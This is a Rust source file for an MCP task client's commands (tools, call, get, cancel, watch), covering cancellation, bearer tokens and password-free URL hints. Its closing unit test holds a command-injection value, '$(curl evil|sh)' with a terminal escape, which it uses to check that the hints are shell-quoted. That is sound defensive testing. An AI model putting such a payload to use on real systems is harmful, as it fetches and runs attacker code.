//! The commands: `tools`, `call`, `get`, `cancel`, `watch`.

use std::collections::BTreeMap;
use std::io::IsTerminal as _;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use futures_util::StreamExt as _;
use serde_json::Value;
use tasks_client::{Client, ClientError, Execution, Outcome, SettleOptions, TaskCall, Wait};
use tasks_core::input::Root;
use tasks_core::TaskId;

use crate::exit::Exit;
use crate::interrupt::Interrupts;
use crate::prompt::Terminal;
use crate::status::Status;
use crate::text::clean;
use crate::{args, output, Answers, Cli, Command};

/// How long `cancel` and Ctrl-C wait for the final status after sending `tasks/cancel`.
const CANCEL_WAIT: Duration = Duration::from_secs(30);

/// Shared flags of one run.
struct Run {
    json: bool,
    options: SettleOptions,
    status: Status,
    interrupts: Interrupts,
}

pub(crate) async fn run(cli: Cli) -> Exit {
    let interrupts = match Interrupts::new() {
        Ok(interrupts) => interrupts,
        Err(error) => {
            crate::say!("error: cannot watch for Ctrl-C: {error}");
            return Exit::Unreachable;
        }
    };
    let mut options = SettleOptions::default();
    if cli.poll {
        options = options.wait(Wait::Poll);
    }
    if let Some(seconds) = cli.timeout {
        match Duration::try_from_secs_f64(seconds) {
            Ok(timeout) => options = options.deadline(timeout),
            Err(_) => {
                crate::say!("error: --timeout must be a number of seconds");
                return Exit::Usage;
            }
        }
    }
    let mut run = Run {
        json: cli.json,
        options,
        status: Status::new(),
        interrupts,
    };
    let token = cli.token;
    match cli.command {
        Command::Tools { url } => match connect(&url, token, None).await {
            Ok((client, _)) => match client.list_tools().await {
                Ok(tools) => {
                    output::tools(&tools, run.json);
                    Exit::Completed
                }
                Err(error) => Exit::report(&error),
            },
            Err(exit) => exit,
        },
        Command::Call {
            url,
            tool,
            pairs,
            args,
            answers,
        } => {
            let (client, terminal) =
                match connect(&url, token, Some((answers, &run.status, CALL_KEYS))).await {
                    Ok(connected) => connected,
                    Err(exit) => return exit,
                };
            run.call(&client, terminal, &tool, &pairs, args.as_deref())
                .await
        }
        Command::Get { url, task_id } => match task(&url, token, None, &task_id).await {
            Ok((task, _)) => match task.get().await {
                Ok(detailed) => {
                    output::task(&detailed, run.json);
                    Exit::Completed
                }
                Err(error) => Exit::report(&error),
            },
            Err(exit) => exit,
        },
        Command::Cancel { url, task_id } => match task(&url, token, None, &task_id).await {
            Ok((task, _)) => run.cancel(&task).await,
            Err(exit) => exit,
        },
        Command::Watch {
            url,
            task_id,
            answers,
        } => {
            let status = run.status.clone();
            match task(&url, token, Some((answers, &status, WATCH_KEYS)), &task_id).await {
                Ok((task, terminal)) => run.watch(&task, terminal).await,
                Err(exit) => exit,
            }
        }
    }
}

/// The help line under a question in `call` (Ctrl-C cancels the task) and `watch` (it stops
/// watching).
const CALL_KEYS: &str = "Esc declines · Ctrl-C cancels the task";
const WATCH_KEYS: &str = "Esc declines · Ctrl-C stops watching";

/// What the input handler needs: the `--answer`/`--root` options, the status line, the help
/// line.
type Input<'a> = (Answers, &'a Status, &'static str);

/// The input handler from `--answer`/`--root` and whether stdin is a terminal.
fn terminal((answers, status, keys): Input<'_>) -> Result<Terminal, Exit> {
    let mut parsed = BTreeMap::new();
    for answer in answers.answers {
        let Some((key, json)) = answer.split_once('=') else {
            crate::say!("error: --answer {answer:?}: write KEY=JSON");
            return Err(Exit::Usage);
        };
        let Ok(value) = serde_json::from_str::<Value>(json) else {
            crate::say!("error: --answer {key}: not JSON: {json}");
            return Err(Exit::Usage);
        };
        parsed.insert(key.to_owned(), value);
    }
    let roots = answers
        .roots
        .into_iter()
        .map(|uri| Root { uri, name: None })
        .collect();
    crate::prompt::mark_declines();
    Ok(Terminal {
        interactive: std::io::stdin().is_terminal(),
        answers: parsed,
        roots,
        status: status.clone(),
        keys,
        interrupted: Arc::new(AtomicBool::new(false)),
    })
}

/// A client of `url` (checked with `server/discover`), with the terminal's input handler.
async fn connect(
    url: &str,
    token: Option<String>,
    input: Option<Input<'_>>,
) -> Result<(Client, Option<Terminal>), Exit> {
    let mut builder = Client::builder(url).client_info("mcp-tasks", env!("CARGO_PKG_VERSION"));
    if let Some(token) = token {
        builder = builder.bearer(token);
    }
    let terminal = match input {
        Some(input) => Some(terminal(input)?),
        None => None,
    };
    if let Some(terminal) = &terminal {
        builder = builder.input_handler(terminal.clone());
    }
    match builder.connect().await {
        Ok(client) => Ok((client, terminal)),
        Err(error) => {
            let exit = Exit::report(&error);
            if let Some(suggested) = error.endpoint_hint().and_then(|path| with_path(url, path)) {
                crate::say!(
                    "hint: the server's MCP endpoint is {}",
                    shown_url(&suggested)
                );
            }
            Err(exit)
        }
    }
}

/// `url` with its path replaced by `path` (no query or fragment).
fn with_path(url: &str, path: &str) -> Option<String> {
    let mut url = reqwest::Url::parse(url).ok()?;
    url.set_path(path);
    url.set_query(None);
    url.set_fragment(None);
    Some(url.into())
}

async fn task(
    url: &str,
    token: Option<String>,
    input: Option<Input<'_>>,
    task_id: &str,
) -> Result<(TaskCall, Option<Terminal>), Exit> {
    let Ok(id) = TaskId::parse(task_id) else {
        crate::say!("error: {task_id:?} is not a task id");
        return Err(Exit::Usage);
    };
    let (client, terminal) = connect(url, token, input).await?;
    Ok((client.task(id), terminal))
}

fn interrupted(terminal: Option<&Terminal>) -> bool {
    terminal.is_some_and(|t| t.interrupted.load(Ordering::SeqCst))
}

impl Run {
    fn finish(&self, outcome: &Outcome) -> Exit {
        self.status.finish();
        match outcome {
            Outcome::Completed(result) | Outcome::ToolError(result) => {
                output::result(result, self.json);
            }
            Outcome::Failed(error) => {
                crate::say!(
                    "The task failed: {} ({})",
                    clean(&error.message),
                    error.code
                );
            }
            _ => crate::say!("The task was cancelled."),
        }
        Exit::of(outcome)
    }

    async fn call(
        &mut self,
        client: &Client,
        terminal: Option<Terminal>,
        tool: &str,
        pairs: &[String],
        base: Option<&str>,
    ) -> Exit {
        let tools = match client.list_tools().await {
            Ok(tools) => tools,
            Err(error) => return Exit::report(&error),
        };
        let Some(entry) = tools.iter().find(|t| t.name == tool) else {
            crate::say!(
                "error: the server has no tool named {:?} (`mcp-tasks tools {}` lists them)",
                clean(tool),
                shell_words::quote(&shown_url(client.url()))
            );
            return Exit::Usage;
        };
        let arguments = match args::arguments(base, pairs, &entry.input_schema) {
            Ok(arguments) => arguments,
            Err(message) => {
                crate::say!("error: {message}");
                return Exit::Usage;
            }
        };
        // From here a Ctrl-C is remembered: the task the server may create is then cancelled
        // at once (before, it just ends the program: nothing was sent).
        self.interrupts.arm();
        let mut pressed = false;
        let call = client.call_tool(tool, arguments);
        tokio::pin!(call);
        let execution = loop {
            tokio::select! {
                execution = &mut call => break execution,
                () = self.interrupts.next(), if !pressed => {
                    pressed = true;
                    crate::say!("Interrupted: waiting for the server's answer to cancel what it started…");
                }
            }
        };
        let execution = match execution {
            Ok(execution) => execution,
            Err(_) if interrupted(terminal.as_ref()) => {
                crate::say!("Cancelled at the prompt.");
                return Exit::Cancelled;
            }
            Err(error) => return Exit::report(&error),
        };
        match execution {
            Execution::Complete(result) => self.finish(&Outcome::of_result(result.into_object())),
            Execution::Task(task) => {
                crate::say!(
                    "Task {} created (Ctrl-C cancels it)",
                    clean(task.id().as_str())
                );
                self.status.start(task.id());
                if pressed {
                    return self.cancel(&task).await;
                }
                self.follow(&task, terminal.as_ref(), true).await
            }
            _ => Exit::Unreachable,
        }
    }

    /// Settles `task`, showing each change; Ctrl-C cancels it (`cancel_on_interrupt`) or stops
    /// watching.
    async fn follow(
        &mut self,
        task: &TaskCall,
        terminal: Option<&Terminal>,
        cancel_on_interrupt: bool,
    ) -> Exit {
        let status = self.status.clone();
        let settled = {
            let settle = task.settle_with(&self.options, |t| status.update(t));
            tokio::pin!(settle);
            tokio::select! {
                settled = &mut settle => Some(settled),
                () = self.interrupts.next() => None,
            }
        };
        match settled {
            Some(Ok(outcome)) => self.finish(&outcome),
            Some(Err(_)) if interrupted(terminal) && cancel_on_interrupt => self.cancel(task).await,
            Some(Err(_)) if interrupted(terminal) => self.stop_watching(task),
            Some(Err(error)) => {
                self.status.finish();
                let exit = Exit::report(&error);
                if matches!(exit, Exit::InputNeeded | Exit::Timeout) {
                    still_there(task);
                }
                exit
            }
            None if cancel_on_interrupt => self.cancel(task).await,
            None => self.stop_watching(task),
        }
    }

    fn stop_watching(&self, task: &TaskCall) -> Exit {
        self.status.finish();
        crate::say!(
            "Stopped watching; the task {} keeps running.",
            clean(task.id().as_str())
        );
        Exit::Interrupted
    }

    /// Sends `tasks/cancel` and waits for the final status (a second Ctrl-C stops waiting).
    async fn cancel(&mut self, task: &TaskCall) -> Exit {
        self.status.note("cancelling…");
        if let Err(error) = task.cancel().await {
            self.status.finish();
            return Exit::report(&error);
        }
        let options = SettleOptions::default()
            .wait(self.options.wait)
            .deadline(CANCEL_WAIT);
        let status = self.status.clone();
        let mut updates = Box::pin(task.updates(&options));
        let last = loop {
            tokio::select! {
                update = updates.next() => match update {
                    Some(Ok(update)) => {
                        status.update(&update);
                        if let Some(outcome) = Outcome::of_state(&update.state) {
                            break Ok(outcome);
                        }
                    }
                    Some(Err(error)) => break Err(error),
                    None => break Err(ClientError::Deadline),
                },
                () = self.interrupts.next() => {
                    self.status.finish();
                    crate::say!("Stopped waiting; the cancel of task {} was sent.", clean(task.id().as_str()));
                    return Exit::Interrupted;
                }
            }
        };
        match last {
            Ok(Outcome::Cancelled) => {
                self.status.finish();
                crate::say!("Task {} cancelled.", clean(task.id().as_str()));
                Exit::Cancelled
            }
            Ok(outcome) => {
                crate::say!(
                    "The task {} had already finished before the cancel reached it.",
                    clean(task.id().as_str())
                );
                self.finish(&outcome)
            }
            Err(ClientError::Deadline) => {
                self.status.finish();
                crate::say!(
                    "The task has not ended {} s after the cancel.",
                    CANCEL_WAIT.as_secs()
                );
                still_there(task);
                Exit::Timeout
            }
            Err(error) => {
                self.status.finish();
                Exit::report(&error)
            }
        }
    }

    async fn watch(&mut self, task: &TaskCall, terminal: Option<Terminal>) -> Exit {
        crate::say!(
            "Watching task {} (Ctrl-C stops watching)",
            clean(task.id().as_str())
        );
        self.status.start(task.id());
        self.interrupts.arm();
        self.follow(task, terminal.as_ref(), false).await
    }
}

/// `url` as shown to the user: without a password.
fn shown_url(url: &str) -> String {
    match reqwest::Url::parse(url) {
        Ok(mut parsed) if parsed.password().is_some() => {
            let _ = parsed.set_password(None);
            parsed.to_string()
        }
        _ => url.to_owned(),
    }
}

/// Says how to reach `task` again.
fn still_there(task: &TaskCall) {
    crate::say!("{}", reach_again(&task.handle().url, task.id().as_str()));
}

/// How to reach a task again, as commands that can be pasted into a shell: the URL without
/// its password, both words shell-quoted, control characters escaped.
fn reach_again(url: &str, id: &str) -> String {
    let url = shell_words::quote(&shown_url(url)).into_owned();
    let id = shell_words::quote(id).into_owned();
    format!(
        "The task is still on the server: `{}` follows it, `{}` cancels it.",
        clean(&format!("mcp-tasks watch {url} {id}")),
        clean(&format!("mcp-tasks cancel {url} {id}"))
    )
}

#[cfg(test)]
mod tests {
    use super::reach_again;

    #[test]
    fn hints_are_safe_to_paste() {
        assert_eq!(
            reach_again("http://127.0.0.1:3000/mcp", "abc_-1"),
            "The task is still on the server: `mcp-tasks watch http://127.0.0.1:3000/mcp abc_-1` \
             follows it, `mcp-tasks cancel http://127.0.0.1:3000/mcp abc_-1` cancels it."
        );
        let hint = reach_again("http://user:hunter2@h/mcp", "x $(curl evil|sh)\u{1b}[2J");
        assert!(!hint.contains("hunter2"), "{hint}");
        assert!(hint.contains("http://user@h/mcp"), "{hint}");
        assert!(hint.contains("'x $(curl evil|sh)\\u{1b}[2J'"), "{hint}");
    }
}
